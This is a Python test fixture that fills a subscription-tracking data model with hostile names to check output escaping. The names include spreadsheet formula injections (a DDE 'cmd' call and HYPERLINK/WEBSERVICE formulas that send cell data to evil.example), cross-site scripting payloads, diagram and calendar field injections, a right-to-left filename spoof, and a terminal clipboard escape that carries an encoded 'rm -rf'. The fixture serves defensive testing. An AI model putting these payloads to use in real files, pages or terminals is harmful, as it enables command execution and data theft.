"""Names that try to be something else: in a spreadsheet, a chart, a calendar or a page."""

from typing import Any

from footprint.model.exits import Exit
from footprint.model.items import Item
from footprint.model.links import Link
from footprint.model.records import Records
from footprint.model.requests import Request

NAMES = (
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "  =1+1",
    "\u3000=1+1",
    "＝1+1",
    "\u200b=1+1",
    'a";=1+1',
    "a;=1+1",
    'a;"=1+1"',
    "\u00ad=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    '=WEBSERVICE("http://evil.example")',
    "comma, \"quote\" 'apostrophe'; semicolon",
    "line\nbreak\r\nand\ttab",
    "end",
    "subgraph",
    'x"] --> y["z',
    "%%{init: {'theme': 'dark'}}%%",
    "%% comment",
    'click n1 "javascript:alert(1)"',
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "`**bold** _under_`",
    "#quot;#35;&amp;&lt;",
    "\ufb02\u00b0\u00b060\u00b6\u00df",
    "fa:fa-ban A@{shape: circ} $$x^2$$ \\n",
    "---\ntitle: x\n---",
    "BEGIN:VEVENT\\nEND:VCALENDAR",
    "a\\,b\\;c\\\\n;VALUE=DATE:20260101",
    "\u202egnp.txt\u2066",
    "copy\x1b]52;c;cm0gLXJm\x07me\x00\x9b",
    "[x](javascript:alert(1))",
    "{name} %s {0.__class__}",
    "長い名前" * 50,
    "混ぜた🍣 shop 👩‍👩‍👧 ﾊﾝｶｸ",
)


def records() -> Records:
    """Return a vault whose one service is `platform`, with each name on things of it."""
    items: list[dict[str, Any]] = [{"id": "platform", "kind": "service", "name": "Platform"}]
    links: list[tuple[str, str, str]] = []
    for n, name in enumerate(NAMES):
        items += [
            {"id": f"shop{n}", "kind": "shop", "name": name, "closing": {"phone": name}},
            {
                "id": f"order{n}",
                "kind": "subscription",
                "name": name,
                "price": {"amount": "980", "currency": "JPY"},
                "cycle": {"every": 1, "unit": "month"},
                "first_charge_on": "2026-01-31",
                "notice": {"days": 7},
                "cancel": {"form": name, "note": name, "needs_login": "platform"},
            },
            {"id": f"card{n}", "kind": "payment_method", "name": name, "label": name},
            {"id": f"news{n}", "kind": "mailing_list", "name": name},
        ]
        links += [
            (f"shop{n}", "sold_on", "platform"),
            (f"order{n}", "provided_by", f"shop{n}"),
            (f"card{n}", "stored_at", "platform"),
            (f"order{n}", "charged_to", f"card{n}"),
            (f"news{n}", "sent_by", f"shop{n}"),
        ]
    asked = {"on": "2026-11-01", "direction": "out", "type": "request", "to": NAMES[0]}
    return Records.of(
        [Item.from_json(item) for item in items],
        [Link.from_json({"from": a, "relation": r, "to": b}) for a, r, b in links],
        [
            Request.from_json(
                {"id": f"R-{n}", "kind": "cancellation", "item": f"order{n}", "log": [asked]}
            )
            for n in range(0, len(NAMES), 2)
        ],
        [Exit(id="leave", goal=("platform",))],
    )
